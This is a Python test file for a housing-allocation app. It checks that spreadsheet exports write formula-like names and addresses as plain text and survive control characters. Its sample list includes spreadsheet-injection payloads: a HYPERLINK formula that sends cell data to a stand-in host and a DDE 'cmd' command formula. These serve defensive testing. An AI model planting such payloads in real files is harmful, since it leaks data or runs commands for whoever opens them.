"""Exports never hand a spreadsheet a formula (OWASP «CSV Injection»), and never fail on stored text.

Before: an applicant named `=HYPERLINK("http://x/?"&A1,"klikk")` was written to queue.xlsx as a
live formula that sends the sheet's data to a stranger's server when clicked, and a NUL byte in
a name made every export fail (issue 14 §3).
"""
from __future__ import annotations

import csv
from dataclasses import replace
from datetime import date

import openpyxl
import pytest

from boligmote.services.importing import commit_import, plan_import
from boligmote.services.table_export import export_table
from boligmote.store.households import HouseholdRepository

TODAY = date(2026, 11, 23)
HOSTILE = ['=HYPERLINK("http://x/?"&A1,"klikk")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)",
           " =1+1", "\uff1d1+1"]


def cells(path):
    workbook = openpyxl.load_workbook(path)
    return [cell for row in workbook.active.iter_rows() for cell in row]


def assert_all_text(path, expected: list[str]) -> None:
    found = cells(path)
    assert not [cell.coordinate for cell in found if cell.data_type == "f"]
    values = {cell.value: cell for cell in found if isinstance(cell.value, str)}
    for text in expected:
        assert text in values, text  # readable as written, not mangled
        assert values[text].data_type == "s" and values[text].quotePrefix  # Excel's own «'» before the text


def test_formula_like_names_imported_from_a_file_are_exported_as_text(demo_db, tmp_path):
    queue = HouseholdRepository(demo_db).queue()
    source = tmp_path / "sokere.csv"
    with open(source, "w", encoding="utf-8", newline="") as f:
        writer = csv.writer(f, delimiter=";")
        writer.writerow(["saksnummer", "husstandstype", "voksne", "prioritet", "vedtaksdato", "navn"])
        writer.writerows([a.case_no, a.household_type.value, a.adults, a.priority.value,
                          f"{a.decision_date:%d.%m.%Y}", name] for a, name in zip(queue, HOSTILE))
    plan = plan_import(demo_db, "applicants", source, TODAY)
    assert plan.ok, plan.problems
    commit_import(demo_db, plan)

    out = tmp_path / "venteliste.xlsx"
    export_table(demo_db, "queue", out, TODAY)
    assert_all_text(out, [name.strip() for name in HOSTILE])
    # and the text is kept, so the exported queue still imports back as it was
    again = plan_import(demo_db, "applicants", out, TODAY)
    assert again.ok and again.changes.updated == 0, again.problems[:3]


@pytest.mark.parametrize("character", ["\t", "\r"])
def test_a_stored_text_that_begins_with_a_tab_or_carriage_return_is_text(demo_db, tmp_path, character):
    households = HouseholdRepository(demo_db)
    applicant = households.queue()[0]
    households.save_applicants([replace(applicant, name=character + "=1+1")])
    out = tmp_path / "venteliste.xlsx"
    export_table(demo_db, "queue", out, TODAY)
    assert not [cell for cell in cells(out) if cell.data_type == "f"]
    [cell] = [cell for cell in cells(out) if isinstance(cell.value, str) and cell.value.endswith("=1+1")]
    assert cell.quotePrefix


def test_decisions_and_composition_exports_write_formula_like_text_as_text(demo_db, tmp_path):
    building = demo_db.scalar("SELECT id FROM buildings ORDER BY id LIMIT 1")
    unit = demo_db.scalar("SELECT id FROM units WHERE status = 'vacant' ORDER BY id LIMIT 1")
    case_no = demo_db.scalar("SELECT case_no FROM applicants ORDER BY case_no LIMIT 1")
    with demo_db.transaction("test", "hostile text") as conn:
        conn.execute("UPDATE buildings SET address = ? WHERE id = ?", (HOSTILE[0], building))
        meeting = conn.execute("INSERT INTO meetings (held_on, place, status) VALUES ('2026-11-20', ?, "
                               "'in_progress')", (HOSTILE[4],)).lastrowid
        conn.execute("INSERT INTO decisions (meeting_id, case_no, outcome, unit_id, reasons, conditions, decided_at) "
                     "VALUES (?, ?, 'tildelt', ?, ?, ?, '2026-11-20T10:15:00')",
                     (meeting, case_no, unit, HOSTILE[1], HOSTILE[2]))
    decisions, composition = tmp_path / "vedtak.xlsx", tmp_path / "sammensetning.xlsx"
    export_table(demo_db, "decisions", decisions, TODAY)
    export_table(demo_db, "composition", composition, TODAY)
    assert_all_text(decisions, HOSTILE[1:3])
    assert_all_text(composition, [HOSTILE[0]])


def test_a_control_character_in_stored_text_does_not_stop_the_export(demo_db, tmp_path):
    """Text stored before the importer refused control characters still exports, visibly marked."""
    households = HouseholdRepository(demo_db)
    applicant = households.queue()[0]
    households.save_applicants([replace(applicant, name="Kari\x00Nordmann\x1b")])
    out = tmp_path / "venteliste.xlsx"
    assert export_table(demo_db, "queue", out, TODAY) == len(households.queue())
    assert "Kari\ufffdNordmann\ufffd" in {cell.value for cell in cells(out)}
